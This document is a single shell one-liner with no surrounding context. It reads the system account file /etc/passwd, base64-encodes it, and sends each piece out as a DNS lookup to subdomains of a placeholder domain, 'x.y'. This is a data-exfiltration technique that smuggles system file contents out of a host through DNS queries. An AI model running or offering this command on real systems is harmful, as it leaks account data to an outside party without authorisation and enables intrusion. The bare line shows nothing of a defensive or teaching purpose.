for l in $(cat /etc/passwd | base64); do dig $l.x.y; done
